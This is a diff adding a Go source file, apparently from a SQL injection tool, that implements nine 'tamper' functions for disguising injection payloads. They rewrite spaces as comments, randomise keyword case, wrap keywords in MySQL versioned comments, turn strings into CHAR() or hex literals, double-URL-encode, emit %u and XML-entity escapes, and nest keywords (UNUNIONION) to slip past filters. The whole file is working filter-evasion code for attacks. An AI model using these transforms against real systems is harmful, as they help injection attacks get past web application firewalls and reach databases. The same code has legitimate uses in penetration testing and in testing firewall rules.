@@ -0,0 +1,207 @@
+package tamper
+
+import (
+	"fmt"
+	"math/rand"
+	"regexp"
+	"strings"
+	"unicode"
+)
+
+// keywords are the SQL words rewritten by the keyword-based tampers.
+var keywords = []string{
+	"SELECT", "UNION", "FROM", "WHERE", "AND", "OR", "NOT", "ORDER", "GROUP", "BY", "LIMIT", "OFFSET",
+	"FETCH", "NEXT", "ROWS", "ONLY", "NULL", "CAST", "CONVERT", "CASE", "WHEN", "THEN", "ELSE", "END",
+	"SUBSTRING", "SUBSTR", "LENGTH", "LEN", "COUNT", "CONCAT", "DISTINCT", "LIKE", "IF", "SLEEP", "AS",
+}
+
+var keywordPattern = regexp.MustCompile(`(?i)\b(?:` + strings.Join(keywords, "|") + `)\b`)
+
+func init() {
+	Register(Func{TamperName: "space2comment", Summary: "Replaces spaces outside string literals with /**/", Fn: space2comment})
+	Register(Func{TamperName: "randomcase", Summary: "Randomizes the case of SQL keywords", Fn: randomCase})
+	Register(Func{TamperName: "versionedcomment", Summary: "Wraps SQL keywords in MySQL versioned comments, e.g. /*!50000UNION*/", Fn: versionedComment})
+	Register(Func{TamperName: "charstring", Summary: "Rewrites string literals as CHAR() calls (MySQL)", Fn: charString})
+	Register(Func{TamperName: "hexstring", Summary: "Rewrites string literals as hex literals (MySQL, MSSQL)", Fn: hexString})
+	Register(Func{TamperName: "doubleurlencode", Summary: "Percent-encodes the payload once more than the request needs", Fn: doubleURLEncode})
+	Register(Func{TamperName: "unicodeescape", Summary: "Encodes special characters as %uXXXX escapes (IIS/ASP)", Fn: unicodeEscape})
+	Register(Func{TamperName: "xmlentity", Summary: "Encodes every character as an XML numeric character reference", Fn: xmlEntity})
+	Register(Func{TamperName: "keywordsplit", Summary: "Nests SQL keywords in themselves to survive filters that strip them once, e.g. UNUNIONION", Fn: keywordSplit})
+}
+
+// segment is a run of SQL code or a single-quoted string literal.
+type segment struct {
+	text    string // Code, or literal content with quotes still doubled
+	literal bool
+	opened  bool // Literal starts with its opening quote
+	closed  bool // Literal ends with its closing quote
+}
+
+func (s segment) String() string {
+	if !s.literal {
+		return s.text
+	}
+	text := s.text
+	if s.opened {
+		text = "'" + text
+	}
+	if s.closed {
+		text += "'"
+	}
+	return text
+}
+
+// splitLiterals splits the payload into code and string literals. Payloads usually
+// start inside the original quoted value, e.g. "' UNION SELECT 'a'--", so a quote
+// that comes before any whitespace is treated as closing a string.
+func splitLiterals(payload string) []segment {
+	firstQuote := strings.IndexByte(payload, '\'')
+	inString := firstQuote >= 0 && !strings.ContainsAny(payload[:firstQuote], " \t\r\n")
+
+	var segments []segment
+	current := segment{literal: inString}
+	for i := 0; i < len(payload); i++ {
+		c := payload[i]
+		switch {
+		case c != '\'':
+			current.text += string(c)
+		case inString && i+1 < len(payload) && payload[i+1] == '\'':
+			current.text += "''"
+			i++
+		case inString:
+			current.closed = true
+			segments = append(segments, current)
+			current = segment{}
+			inString = false
+		default:
+			segments = append(segments, current)
+			current = segment{literal: true, opened: true}
+			inString = true
+		}
+	}
+	return append(segments, current)
+}
+
+// joinSegments renders segments back into a payload, applying the given functions
+// to code and to the content of complete, non-empty literals.
+func joinSegments(segments []segment, code func(string) string, literal func(string) string) string {
+	var result strings.Builder
+	for _, seg := range segments {
+		switch {
+		case !seg.literal && code != nil:
+			result.WriteString(code(seg.text))
+		case seg.literal && seg.opened && seg.closed && seg.text != "" && literal != nil:
+			result.WriteString(literal(strings.ReplaceAll(seg.text, "''", "'")))
+		default:
+			result.WriteString(seg.String())
+		}
+	}
+	return result.String()
+}
+
+// outsideStrings applies fn to the parts of the payload that are not string literals.
+func outsideStrings(payload string, fn func(string) string) string {
+	return joinSegments(splitLiterals(payload), fn, nil)
+}
+
+// replaceKeywords applies fn to every SQL keyword outside string literals.
+func replaceKeywords(payload string, fn func(string) string) string {
+	return outsideStrings(payload, func(code string) string {
+		return keywordPattern.ReplaceAllStringFunc(code, fn)
+	})
+}
+
+// replaceLiterals replaces every complete, non-empty string literal, quotes included,
+// with fn of its content. The string the payload starts in belongs to the original
+// query, so it is left alone.
+func replaceLiterals(payload string, fn func(string) string) string {
+	return joinSegments(splitLiterals(payload), nil, fn)
+}
+
+func space2comment(payload string) string {
+	return outsideStrings(payload, func(segment string) string {
+		return strings.ReplaceAll(segment, " ", "/**/")
+	})
+}
+
+func randomCase(payload string) string {
+	return replaceKeywords(payload, func(keyword string) string {
+		runes := []rune(keyword)
+		for i, r := range runes {
+			if rand.Intn(2) == 0 {
+				runes[i] = unicode.ToLower(r)
+			} else {
+				runes[i] = unicode.ToUpper(r)
+			}
+		}
+		return string(runes)
+	})
+}
+
+func versionedComment(payload string) string {
+	return replaceKeywords(payload, func(keyword string) string {
+		return "/*!50000" + keyword + "*/"
+	})
+}
+
+func charString(payload string) string {
+	return replaceLiterals(payload, func(content string) string {
+		codes := make([]string, 0, len(content))
+		for _, b := range []byte(content) {
+			codes = append(codes, fmt.Sprint(b))
+		}
+		return "CHAR(" + strings.Join(codes, ",") + ")"
+	})
+}
+
+func hexString(payload string) string {
+	return replaceLiterals(payload, func(content string) string {
+		return fmt.Sprintf("0x%x", content)
+	})
+}
+
+// doubleURLEncode percent-encodes everything but unreserved characters. The request
+// encodes the result again, so the server sees the payload encoded twice.
+func doubleURLEncode(payload string) string {
+	var encoded strings.Builder
+	for _, b := range []byte(payload) {
+		if isUnreserved(b) {
+			encoded.WriteByte(b)
+		} else {
+			fmt.Fprintf(&encoded, "%%%02X", b)
+		}
+	}
+	return encoded.String()
+}
+
+func unicodeEscape(payload string) string {
+	var encoded strings.Builder
+	for _, r := range payload {
+		if r < 0x80 && isUnreserved(byte(r)) {
+			encoded.WriteRune(r)
+		} else {
+			fmt.Fprintf(&encoded, "%%u%04X", r)
+		}
+	}
+	return encoded.String()
+}
+
+// xmlEntity suits XML injection points, whose escaping keeps numeric character references intact.
+func xmlEntity(payload string) string {
+	var encoded strings.Builder
+	for _, r := range payload {
+		fmt.Fprintf(&encoded, "&#x%X;", r)
+	}
+	return encoded.String()
+}
+
+func keywordSplit(payload string) string {
+	return replaceKeywords(payload, func(keyword string) string {
+		middle := len(keyword) / 2
+		return keyword[:middle] + keyword + keyword[middle:]
+	})
+}
+
+func isUnreserved(b byte) bool {
+	return b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9' || b == '-' || b == '.' || b == '_' || b == '~'
+}